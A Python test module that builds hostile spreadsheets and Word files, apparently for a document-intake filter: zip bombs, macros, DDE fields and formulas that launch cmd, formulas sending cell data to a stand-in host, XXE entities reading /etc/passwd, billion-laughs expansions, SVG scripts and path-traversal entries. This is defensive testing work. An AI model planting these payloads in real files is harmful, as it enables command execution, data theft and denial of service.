"""Hostile workbooks and Word files."""

from __future__ import annotations

import io
import os
import stat
import zipfile

from hutong.domains.exchange.tests.files import DEATHS, death
from hutong.foundation.documents.tests.files import png

from .cases import (
    HARMLESS,
    MENDED,
    NAMESPACE,
    PACKAGE,
    RELATIONS,
    Case,
    book,
    cell,
    document,
    line,
    lines,
    parts,
    related,
    sheet,
    with_sheet,
    zipped,
)

MEGABYTE = 2**20
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
NOT_READ = "nothing in the house computes or draws what an attachment says"
STRINGS = "xl/sharedStrings.xml"
SHEET = "xl/worksheets/sheet1.xml"


def noise(size: int) -> bytes:
    return os.urandom(size)


def flat_bomb() -> bytes:
    return with_sheet(sheet(before=" " * (60 * MEGABYTE)))


def padded_bomb() -> bytes:
    """The ratio kept low by parts that do not compress."""
    return book({"xl/media/image1.bin": noise(3 * MEGABYTE), "xl/padding.xml": b" " * (420 * MEGABYTE)})


def overlapping() -> bytes:
    """Many directory entries for one stream (after Fifield)."""
    content = book({"xl/zeros.xml": b" " * (5 * MEGABYTE)})
    start = int.from_bytes(content[-6:-2], "little")
    directory, end = content[start:-22], content[-22:]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    copies = [last.replace(b"zeros", f"zer{n:02d}".encode()) for n in range(20)]
    directory += b"".join(copies)
    count = 6 + len(copies)
    end = end[:8] + count.to_bytes(2, "little") * 2 + len(directory).to_bytes(4, "little") + end[16:]
    return content[:start] + directory + end


def lying(declared: int) -> bytes:
    content = bytearray(book({"xl/big.xml": b" " * (12 * MEGABYTE)}))
    place = content.rfind(b"xl/big.xml") - 46
    content[place + 24 : place + 28] = declared.to_bytes(4, "little")
    return bytes(content)


def wrong_sum() -> bytes:
    content = bytearray(book())
    place = content.rfind(b"xl/workbook.xml") - 46
    content[place + 16 : place + 20] = b"\x01\x02\x03\x04"
    return bytes(content)


def locked() -> bytes:
    content = bytearray(book())
    for sign, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = -1
        while (place := content.find(sign, place + 1)) >= 0:
            content[place + offset] |= 1
    return bytes(content)


def with_entry(name: str, content: bytes = b"x", mode: int = 0) -> bytes:
    """A sound workbook and one more entry, also where the same name stands already."""
    sink = io.BytesIO(book())
    with zipfile.ZipFile(sink, "a") as box:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        box.NameToInfo.pop(name, None)  # or zipfile warns of the second
        box.writestr(entry, content)
    return sink.getvalue()


def shared(string: str, cells: int, pad: int = 0) -> bytes:
    """One shared text in many cells: small on disk, enormous once each cell has its own copy."""
    rows = "".join(f'<row r="{n + 2}"><c r="A{n + 2}" t="s"><v>0</v></c></row>' for n in range(cells))
    both = (
        f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r9" Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r8" Type="{RELATIONS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    more: dict[str, str | bytes] = {
        STRINGS: f'<sst {NAMESPACE} count="1" uniqueCount="1"><si><t>{string}</t></si></sst>',
        "xl/_rels/workbook.xml.rels": both,
    }
    if pad:
        more["xl/media/image1.bin"] = noise(pad)
    return with_sheet(sheet(line(1, DEATHS) + rows), more)


def formula(inside: str, prefix: str = "") -> bytes:
    rows = line(1, DEATHS) + line(2, death(1))
    tag = f"{prefix}c", f"{prefix}f"
    head = sheet(
        rows
        + f'<{prefix}row r="3"><{tag[0]} r="A3"><{tag[1]}>{inside}</{tag[1]}><v>0</v></{tag[0]}></{prefix}row>'
    )
    return with_sheet(
        head.replace(
            NAMESPACE, f'{NAMESPACE} xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        )
    )


def far(at: str, row: int) -> bytes:
    return with_sheet(sheet(lines() + f'<row r="{row}">{cell(f"{at}{row}", "远")}</row>'))


def field(*runs: str) -> str:
    return "".join(f"<w:p><w:r><w:instrText>{one}</w:instrText></w:r></w:p>" for one in runs)


def _prefix_pdf() -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as box:
        box.writestr("a.pdf", b"%PDF-1.4\n%%EOF")
        for name, part in parts().items():
            box.writestr(name, part)
    return sink.getvalue()


BOMBS = (
    Case("flat bomb", flat_bomb),
    Case("bomb padded with noise", padded_bomb),
    Case("overlapping entries", overlapping),
    Case("directory that lies, small", lambda: lying(10)),
    Case("directory that lies, large", lambda: lying(2**31)),
    Case("nested packages", lambda: book({"xl/media/a.bin": zipped({"b.zip": zipped({"c.xml": " " * MEGABYTE})})})),
    Case("plain nested zip", lambda: zipped({f"{n}.zip": zipped({"x": "0" * MEGABYTE}) for n in range(9)}), "a.zip"),
    Case("three thousand parts", lambda: book({f"xl/p{n}.xml": "" for n in range(3001)})),
    Case("bzip2 inside", lambda: zipped(parts(), zipfile.ZIP_BZIP2)),
    Case("lzma inside", lambda: zipped(parts(), zipfile.ZIP_LZMA)),
    Case("one shared text of 30 KB in 50,000 cells", lambda: shared("柳" * 10_000, 50_000, 100_000), documents=HARMLESS, why=NOT_READ),
    Case("shared text of 40 MB", lambda: shared("柳" * (13 * MEGABYTE), 3)),
    Case("a count of four billion shared texts", lambda: book({STRINGS: f'<sst {NAMESPACE} count="4294967295" uniqueCount="4294967295"/>'}), documents=HARMLESS, why="counts are not believed"),
    Case("a million columns declared", lambda: with_sheet(sheet(before='<dimension ref="A1:XFD1048576"/><cols><col min="1" max="1000000"/></cols>')), documents=HARMLESS, exchange=HARMLESS, why="declared extents are not believed"),
    Case("a cell in column XFD", lambda: far("XFD", 3), documents=HARMLESS, why=NOT_READ),
    Case("a cell in row 1,048,576", lambda: far("XFD", 1_048_576), documents=HARMLESS, why=NOT_READ),
    Case("a cell in row 1,000,001, first column", lambda: far("A", 1_000_001), documents=HARMLESS, why=NOT_READ),
    Case("a million cells without addresses in a row", lambda: with_sheet(sheet(lines() + "<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>"), {"xl/media/a.bin": noise(MEGABYTE)}), documents=HARMLESS, why=NOT_READ),
    Case("600,000 rows", lambda: with_sheet(sheet(line(1, DEATHS) + "".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 99991}</v></c></row>' for n in range(2, 600_002)))), documents=HARMLESS, why=NOT_READ),
    Case("markup 200,000 deep", lambda: with_sheet(sheet(after="<a>" * 200_000 + "</a>" * 200_000)), documents=HARMLESS, why="readers go through it without a stack"),
    Case("an attribute of 5 MB", lambda: with_sheet(sheet(before=f'<dimension ref="{os.urandom(2_500_000).hex()}"/>')), documents=HARMLESS, why="one long text, read once"),
    Case("half a million merged cells", lambda: with_sheet(sheet(after="<mergeCells>" + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(200_000)) + "</mergeCells>")), documents=HARMLESS, exchange=HARMLESS, why="merges are not read"),
)  # fmt: skip

ACTIVE = (
    Case("xlsm with macros", lambda: book({"xl/vbaProject.bin": OLE}), "清单.xlsm"),
    Case("macros under another name", lambda: book({"xl/printerSettings/a.bin": OLE})),
    Case("xlsb", lambda: zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x83\x01"}), "清单.xlsb"),
    Case("macro sheet of Excel 4", lambda: book({"xl/macrosheets/sheet1.xml": sheet()})),
    Case("xls", lambda: OLE, "清单.xls"),
    Case("doc with macros", lambda: OLE + "VBA_PROJECT".encode("utf-16-le"), "报告.doc"),
    Case("docm", lambda: document(more={"word/vbaProject.bin": OLE}), "报告.docm"),
    Case("embedded object", lambda: book({"xl/embeddings/oleObject1.bin": OLE})),
    Case("control", lambda: document(more={"word/activeX/activeX1.xml": "<x/>"}), "报告.docx"),
    Case("program inside", lambda: document(more={"word/media/setup.exe": b"MZ\x90"}), "报告.docx"),
    Case("program under a picture's name", lambda: document(more={"word/media/image1.png": b"MZ\x90\x00"}), "报告.docx"),
    Case("page inside (altChunk)", lambda: document(more={"word/afchunk.mht": "MIME-Version: 1.0"}), "报告.docx"),
    Case("web extension", lambda: book({"xl/webextensions/webextension1.xml": "<x/>"}), exchange=HARMLESS, why="only the cells of the first sheet are ever read"),
    Case("external workbook", lambda: book({"xl/externalLinks/externalLink1.xml": "<x/>"})),
    Case("data connection", lambda: book({"xl/connections.xml": "<connections/>"})),
    Case("web query", lambda: book({"xl/queryTables/queryTable1.xml": "<x/>"}), exchange=HARMLESS, why="only the cells of the first sheet are ever read"),
    Case("remote template", lambda: document(more={"word/_rels/settings.xml.rels": related("http://x.example/a.dotm", "attachedTemplate")}), "报告.docx"),
    Case("remote picture", lambda: document(more={"word/_rels/document.xml.rels": related("http://x.example/a.png", "image")}), "报告.docx"),
    Case("remote object", lambda: document(more={"word/_rels/document.xml.rels": related("\\\\x.example\\a", "oleObject")}), "报告.docx"),
    Case("link to a share", lambda: document(more={"word/_rels/document.xml.rels": related("file://x.example/a", "hyperlink")}), "报告.docx"),
    Case("link that is a script", lambda: document(more={"word/_rels/document.xml.rels": related("javascript:alert(1)", "hyperlink")}), "报告.docx"),
    Case("formula that starts a program", lambda: formula("cmd|'/c calc'!A0")),
    Case("formula that sends a cell away", lambda: formula("HYPERLINK(&quot;http://x.example/?&quot;&amp;A2,&quot;点&quot;)")),
    Case("formula that calls a service", lambda: formula("WEBSERVICE(&quot;http://x.example/&quot;&amp;A2)")),
    Case("formula under another prefix", lambda: formula("cmd|'/c calc'!A0", "x:")),
    Case("formula in a cell without address", lambda: with_sheet(sheet(lines() + "<row><c><f t='array' ref='A9'>RTD(1)</f><v>1</v></c></row>"))),
    Case("harmless formula", lambda: formula("SUM(A1:A2)"), documents=HARMLESS, why="officials' attachments compute sums"),
    Case("field that starts a program", lambda: document(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "报告.docx"),
    Case("that field in pieces", lambda: document(field("DD", "EAU", "TO cmd")), "报告.docx"),
    Case("field that reads a file", lambda: document('<w:fldSimple w:instr="INCLUDETEXT c:\\\\a.txt"/>'), "报告.docx"),
)  # fmt: skip


def media(name: str, content: str | bytes) -> bytes:
    return document(more={f"word/media/{name}": content})


XML = (
    Case("entity of a file in the sheet", lambda: with_sheet(sheet(head=ENTITY))),
    Case("a billion laughs in shared texts", lambda: book({STRINGS: f"<?xml version='1.0'?>{LAUGHS}<sst>&a11;</sst>"})),
    Case("entity in the workbook", lambda: book({"xl/workbook.xml": f"{ENTITY}<workbook/>"})),
    Case("document type from outside", lambda: with_sheet(sheet(head='<!DOCTYPE x SYSTEM "http://x.example/a.dtd">'))),
    Case("parameter entity", lambda: with_sheet(sheet(head='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.example/"> %p;]>'))),
    Case("entity in UTF-16", lambda: with_sheet(sheet(head=ENTITY).replace("UTF-8", "UTF-16").encode("utf-16"))),
    Case("entity in UTF-16 without mark", lambda: with_sheet(sheet(head=ENTITY).replace("UTF-8", "UTF-16LE").encode("utf-16-le"))),
    Case("entity in UTF-7", lambda: with_sheet('<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE x+AD4-<worksheet/>')),
    Case("entity behind 2 MB of comment", lambda: with_sheet(sheet(head=f"<!--{noise(MEGABYTE).hex()}-->{ENTITY}"))),
    Case("entity in the list of types", lambda: book({"[Content_Types].xml": ENTITY + "<Types/>"})),
    Case("entity in relations", lambda: book({"xl/_rels/workbook.xml.rels": ENTITY + "<Relationships/>"})),
    Case("entity in a part without suffix", lambda: book({"xl/hidden": ENTITY + "<x/>"})),
    Case("entity in a Word file", lambda: document(head=ENTITY), "报告.docx"),
    Case("laughs in a Word file", lambda: document("&a11;", head=LAUGHS), "报告.docx"),
    Case("entity in a drawing", lambda: media("image1.svg", f"<?xml version='1.0'?>{ENTITY}<svg>&e;</svg>"), "报告.docx"),
    Case("script in a drawing", lambda: media("image1.svg", "<svg><script>alert(1)</script></svg>"), "报告.docx"),
    Case("handler in a drawing", lambda: media("image1.svg", "<svg onload='alert(1)'/>"), "报告.docx"),
    Case("drawing that fetches", lambda: media("image1.svg", "<svg><image href='http://x.example/a'/></svg>"), "报告.docx"),
    Case("pixel flood in a Word file", lambda: media("image1.png", png(60_000, 60_000)), "报告.docx"),
    Case("bare drawing with entity", lambda: f"<?xml version='1.0'?>{ENTITY}<svg>&e;</svg>".encode(), "图.svg"),
    Case("bare drawing with script", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "图.svg"),
    Case("bare laughs", lambda: f"<?xml version='1.0'?>{LAUGHS}<x>&a11;</x>".encode(), "清单.xml"),
)  # fmt: skip

STRUCTURE = (
    Case("way out of the folder", lambda: with_entry("../../../etc/cron.d/x")),
    Case("absolute path", lambda: with_entry("/etc/passwd")),
    Case("way out with backslashes", lambda: with_entry("..\\..\\x")),
    Case("symbolic link", lambda: with_entry("xl/link.xml", b"/etc/passwd", stat.S_IFLNK | 0o777)),
    Case("the sheet twice", lambda: with_entry("xl/worksheets/sheet1.xml", sheet().encode())),
    Case("the sheet twice, other case", lambda: with_entry("XL/worksheets/SHEET1.xml", sheet().encode())),
    Case("name with a control character", lambda: with_entry("xl/a\x07b.xml")),
    Case("locked entries", locked),
    Case("workbook with a password", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    Case("cut workbook", lambda: book()[:-300]),
    Case("cut in the middle of a part", lambda: book()[:500]),
    Case("cut Word file", lambda: document()[:-30], "报告.docx"),
    Case("wrong checksum", wrong_sum),
    Case("bytes before the package", lambda: b"MZ\x90\x00" + book()),
    Case("noise before the package", lambda: b"PK\x03\x04" + noise(500) + book()),
    Case("PDF in the first part", _prefix_pdf),
    Case("empty package", lambda: zipped({})),
    Case("Word file called a workbook", document, documents=MENDED),
    Case("workbook called a picture", book, "照片.jpg", documents=MENDED, exchange=HARMLESS, why="known by its content"),
    Case("texts numbered beyond the list", lambda: with_sheet(sheet(line(1, DEATHS) + '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')), documents=HARMLESS, why=NOT_READ),
    Case("sheet that is not there", lambda: zipped({k: v for k, v in parts().items() if k != SHEET}), documents=HARMLESS, why=NOT_READ),
)  # fmt: skip
